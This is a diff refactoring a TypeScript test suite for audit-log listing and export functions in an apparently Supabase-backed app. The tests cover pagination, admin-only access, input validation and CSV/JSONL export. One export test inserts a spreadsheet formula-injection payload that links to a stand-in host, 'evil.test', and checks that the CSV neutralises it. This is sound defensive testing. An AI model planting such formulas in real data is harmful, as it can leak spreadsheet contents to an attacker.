@@ -1,59 +1,40 @@
-import type { SupabaseClient } from '@supabase/supabase-js';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { describe, expect } from 'vitest';
 import { auditLogResponse } from '#contract/functions/audit-log.ts';
 import { manyAuditEntries } from '#testing/factories/audit-entries.ts';
 import { buildPerson } from '#testing/factories/person.ts';
 import { invokeFunction } from '#testing/invoke-function.ts';
-import { createTestDatabase, type TestDatabase } from '#testing/test-database.ts';
-import { startTestServer, type TestServer } from '#testing/test-server.ts';
+import { type SignedIn, test } from '#testing/steeple-test.ts';
 
-let database: TestDatabase;
-let server: TestServer;
-let superAdmin: SupabaseClient;
-let accountAdmin: SupabaseClient;
-let superAdminId: string;
-
-beforeAll(async () => {
-  database = await createTestDatabase();
-  server = await startTestServer(database);
-  const boss = await buildPerson(database.owner, { role: 'super_admin' });
-  superAdminId = boss.userId;
-  superAdmin = await server.clientOf(boss.email);
-  const grace = await buildPerson(database.owner, { role: 'account_admin' });
-  accountAdmin = await server.clientOf(grace.email);
-});
-afterAll(async () => {
-  await server.close();
-  await database.drop();
-});
-
-async function addAccounts(...names: string[]) {
+async function addAccounts({ client }: SignedIn, ...names: string[]) {
   for (const account_name of names) {
-    const { error } = await superAdmin.from('accounts').insert({ account_name });
+    const { error } = await client.from('accounts').insert({ account_name });
     expect(error).toBeNull();
   }
 }
 
 describe('audit-log', () => {
-  test('returns pages to a super admin, newest first', async () => {
-    await addAccounts('One', 'Two', 'Three');
-    const mine = { actorId: superAdminId, tableName: 'public.accounts', limit: 2 };
+  test('returns pages to a super admin, newest first', async ({ superAdmin }) => {
+    await addAccounts(superAdmin, 'One', 'Two', 'Three');
+    const mine = { actorId: superAdmin.userId, tableName: 'public.accounts', limit: 2 };
     const first = auditLogResponse.parse(
-      (await invokeFunction(superAdmin, 'audit-log', mine)).data,
+      (await invokeFunction(superAdmin.client, 'audit-log', mine)).data,
     );
     expect(first.entries.map(({ subject }) => subject)).toEqual(['Three', 'Two']);
-    const { data } = await invokeFunction(superAdmin, 'audit-log', { ...mine, before: first.next });
+    const { data } = await invokeFunction(superAdmin.client, 'audit-log', {
+      ...mine,
+      before: first.next,
+    });
     const second = auditLogResponse.parse(data);
     expect(second.entries.map(({ subject }) => subject)).toEqual(['One']);
     expect(second.next).toBeNull();
   });
 
-  test('is for nobody else', async () => {
+  test('is for nobody else', async ({ server, admin }) => {
     for (const [name, body] of [
       ['audit-log', {}],
       ['audit-log-export', { format: 'csv' }],
     ] as const) {
-      expect(await invokeFunction(accountAdmin, name, body)).toMatchObject({
+      expect(await invokeFunction(admin.client, name, body)).toMatchObject({
         status: 403,
         data: { success: false, error: 'Unauthorized' },
       });
@@ -63,7 +44,7 @@ describe('audit-log', () => {
     }
   });
 
-  test.each([
+  test.for<[Record<string, unknown>]>([
     [{ limit: 0 }],
     [{ limit: 201 }],
     [{ limit: 1.5 }],
@@ -76,8 +57,8 @@ describe('audit-log', () => {
     [{ from: '2026-02-31T00:00:00Z' }],
     [{ operaton: 'DELETE' }],
     [{ person: 'a\0b' }],
-  ])('%j is refused rather than passed over', async (body) => {
-    expect(await invokeFunction(superAdmin, 'audit-log', body)).toMatchObject({
+  ])('%j is refused rather than passed over', async ([body], { superAdmin }) => {
+    expect(await invokeFunction(superAdmin.client, 'audit-log', body)).toMatchObject({
       status: 400,
       data: { success: false, code: 'validation_failed' },
     });
@@ -85,12 +66,14 @@ describe('audit-log', () => {
 });
 
 describe('audit-log-export', () => {
-  test('writes the filtered log as CSV that no spreadsheet treats as formulas', async () => {
+  test('writes the filtered log as CSV that no spreadsheet treats as formulas', async ({
+    superAdmin,
+  }) => {
     const formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
-    await addAccounts(formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
-    const { data, response } = await invokeFunction(superAdmin, 'audit-log-export', {
+    await addAccounts(superAdmin, formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
+    const { data, response } = await invokeFunction(superAdmin.client, 'audit-log-export', {
       format: 'csv',
-      actorId: superAdminId,
+      actorId: superAdmin.userId,
       tableName: 'public.accounts',
       operation: 'INSERT',
     });
@@ -109,8 +92,8 @@ describe('audit-log-export', () => {
     expect(data).not.toMatch(/(^|,)"\s*[=+\-@]/m);
   });
 
-  test('begins with the byte order mark that spreadsheets need', async () => {
-    const { data } = await superAdmin.auth.getSession();
+  test('begins with the byte order mark that spreadsheets need', async ({ server, superAdmin }) => {
+    const { data } = await superAdmin.client.auth.getSession();
     const answer = await fetch(`${server.url}/functions/v1/audit-log-export`, {
       method: 'POST',
       headers: {
@@ -123,13 +106,13 @@ describe('audit-log-export', () => {
     expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x22]);
   });
 
-  test('writes JSON lines to the letter, values whole', async () => {
+  test('writes JSON lines to the letter, values whole', async ({ superAdmin }) => {
     const title = '=1+1\nforged line';
     const prompt = 'x'.repeat(20_000);
-    await superAdmin.from('knowledge').insert({ title, prompt });
-    const { data, response } = await invokeFunction(superAdmin, 'audit-log-export', {
+    await superAdmin.client.from('knowledge').insert({ title, prompt });
+    const { data, response } = await invokeFunction(superAdmin.client, 'audit-log-export', {
       format: 'jsonl',
-      actorId: superAdminId,
+      actorId: superAdmin.userId,
       tableName: 'public.knowledge',
     });
     expect(response?.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
@@ -138,8 +121,8 @@ describe('audit-log-export', () => {
     expect(JSON.parse(lines[0] ?? '')).toMatchObject({ subject: title, after: { title, prompt } });
   });
 
-  test('exports many pages, complete and in order', async () => {
-    const { data } = await invokeFunction(superAdmin, 'audit-log-export', {
+  test('exports many pages, complete and in order', async ({ database, superAdmin }) => {
+    const { data } = await invokeFunction(superAdmin.client, 'audit-log-export', {
       format: 'jsonl',
       actorId: await manyAuditEntries(database.owner, 1_203),
     });
@@ -150,7 +133,10 @@ describe('audit-log-export', () => {
     expect(numbers).toEqual(Array.from({ length: 1_203 }, (_, index) => 1_203 - index));
   });
 
-  test('of somebody who loses the right meanwhile is cut off instead of ending as if whole', async () => {
+  test('of somebody who loses the right meanwhile is cut off instead of ending as if whole', async ({
+    database,
+    server,
+  }) => {
     const leaver = await buildPerson(database.owner, { role: 'super_admin' });
     const client = await server.clientOf(leaver.email);
     const { data } = await client.auth.getSession();
